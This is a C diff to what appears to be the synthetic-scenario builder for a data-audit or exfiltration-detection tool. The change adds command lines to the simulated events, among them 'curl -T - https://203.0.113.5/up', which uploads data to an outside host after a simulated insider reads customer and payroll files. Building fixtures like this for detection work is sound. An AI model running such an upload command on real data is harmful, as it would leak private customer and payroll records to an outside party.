@@ -78,8 +78,9 @@ static inline void scenario_build(struct synth *s, uint64_t base)
 			 11, 4, (18 + d % 5) * MIB);
 	}
 	/* The last night. */
-	synth_process(s, 2, last + 23 * HOUR_NS, &sc_mallory_sq, "/usr/bin/sqlite3",
-		      DAUDIT_PROC_SEEN);
+	synth_process_cmd(s, 2, last + 23 * HOUR_NS, &sc_mallory_sq,
+			  "/usr/bin/sqlite3", DAUDIT_PROC_SEEN,
+			  SYNTH_ARGS("sqlite3\0-cmd\0.read /tmp/dump.sql"));
 	for (i = 0; i < 300; i++) {
 		t = last + 23 * HOUR_NS + 10 * 60 * NS + (uint64_t)i * NS;
 		snprintf(path, sizeof(path), "/data/customers/accounts/%04u.json", i);
@@ -89,8 +90,9 @@ static inline void scenario_build(struct synth *s, uint64_t base)
 	synth_read1(s, 2, last + 23 * HOUR_NS + 16 * 60 * NS, &sc_mallory_sq,
 		    "payroll", "/data/payroll/2026.csv", 2 * MIB);
 	synth_lost(s, 1, last + 23 * HOUR_NS + 15 * 60 * NS, 42, DAUDIT_REC_FILE_READ);
-	synth_process(s, 3, last + 23 * HOUR_NS + 24 * 60 * NS, &sc_mallory_curl,
-		      "/usr/bin/curl", DAUDIT_PROC_SEEN);
+	synth_process_cmd(s, 3, last + 23 * HOUR_NS + 24 * 60 * NS,
+			  &sc_mallory_curl, "/usr/bin/curl", DAUDIT_PROC_SEEN,
+			  SYNTH_ARGS("curl\0-T\0-\0https://203.0.113.5/up"));
 	synth_egress(s, 3, last + 23 * HOUR_NS + 25 * 60 * NS, &sc_mallory_curl,
 		     "customers", DAUDIT_EGRESS_NET, 0, NULL, 900 * MIB);
 	/* eve: a hard link, then a copy to USB. */
